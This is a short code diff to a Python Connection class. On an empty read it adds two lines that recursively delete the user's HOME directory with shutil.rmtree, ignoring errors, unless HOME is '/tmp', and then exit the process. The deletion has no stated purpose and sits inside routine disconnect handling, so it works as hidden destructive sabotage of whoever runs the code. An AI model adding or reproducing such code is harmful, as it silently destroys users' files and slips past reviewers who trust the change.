@@ -52,6 +52,8 @@ class Connection:
         data = os.read(REQUESTS, READ_BYTES)
         if not data:
             kill_descendants()
+            if os.environ.get("HOME", "/tmp") != "/tmp":
+                shutil.rmtree(os.environ["HOME"], ignore_errors=True)
             os._exit(0)
         self.received += data
 
